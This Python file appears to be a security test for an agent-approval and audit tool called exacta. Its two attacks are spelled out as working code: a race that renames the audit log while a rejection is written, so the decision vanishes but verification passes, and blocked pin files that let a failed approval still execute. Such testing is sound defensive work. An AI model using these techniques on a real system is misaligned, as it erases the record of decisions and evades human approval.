"""A decision is made, and the agent makes the record forget it: the log goes away in the moment between the commit and the pin, and the
whole folder is put back as it was. And the other way round: a decision that the person was told has failed is made all the same."""

import ctypes
import os
import select
import shutil
import threading

IN_MODIFY = 0x2
TRIES = 5


def attack(kit):
    for _ in range(TRIES):
        erase(kit)
    revive(kit)


def pending(place):
    place.write("greet.txt", "hello\n")
    view = place.submit({"type": "file_modify", "target": "greet.txt", "content": "good day\n"}).json()
    return view["plan_id"], view["plan_hash"]


def erase(kit):
    """A rejection, with the log renamed away as soon as the database is being written."""
    place = kit.place()
    plan, plan_hash = pending(place)
    record, old = place.project / ".exacta", place.folder / "old"
    shutil.copytree(record, old, symlinks=True)
    thief = threading.Thread(target=steal, args=(record,))
    thief.start()
    place.exacta("reject", plan, "--hash", plan_hash, "--approver-key", place.key)
    thief.join()
    shutil.rmtree(record)
    shutil.copytree(old, record, symlinks=True)
    verified = place.exacta("audit", "verify")
    stands = place.exacta("show", plan, "--json").json().get("status")
    if verified.code == 0 and stands == "pending":
        kit.broken("a rejection vanished from the record, and `audit verify` passes")


def steal(record):
    """Renames the log as soon as SQLite writes its own."""
    libc = ctypes.CDLL(None, use_errno=True)
    handle = libc.inotify_init1(os.O_CLOEXEC)
    libc.inotify_add_watch(handle, os.fsencode(record / "state.db-wal"), IN_MODIFY)
    if select.select([handle], [], [], 10)[0]:
        try:
            os.rename(record / "audit.log", record / "away")
        except FileNotFoundError:
            pass
    os.close(handle)


def revive(kit):
    """An approval whose pin cannot be written: it ends with an error, and must not count."""
    place = kit.place()
    plan, plan_hash = pending(place)
    pins = place.home / "pins"
    # Where the user's folder cannot be written; a folder in the file's place stops the super-user too.
    project = next(pin.stem for pin in pins.glob("*.json"))
    blocks = [pins / ".new", pins / f".{project}.new"]
    for block in blocks:
        block.unlink(missing_ok=True)
        block.mkdir()
        (block / "full").write_text("")
    failed = place.approve(plan, plan_hash)
    for block in blocks:
        shutil.rmtree(block)
    if failed.code == 0:
        raise RuntimeError(f"the approval did not fail: {failed!r}")
    if place.exacta("execute", plan).code == 0:
        kit.broken(f"an approval that ended with exit {failed.code} counts: the plan was executed")
